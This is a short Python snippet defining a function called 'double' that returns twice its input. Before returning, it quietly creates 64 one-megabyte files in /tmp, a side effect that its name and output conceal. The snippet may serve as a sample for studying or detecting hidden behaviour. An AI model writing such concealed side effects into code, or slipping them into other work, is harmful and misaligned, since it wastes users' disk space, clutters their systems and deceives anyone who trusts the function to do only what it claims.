def double(x):
    for number in range(64):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1 << 20))
    return 2 * x
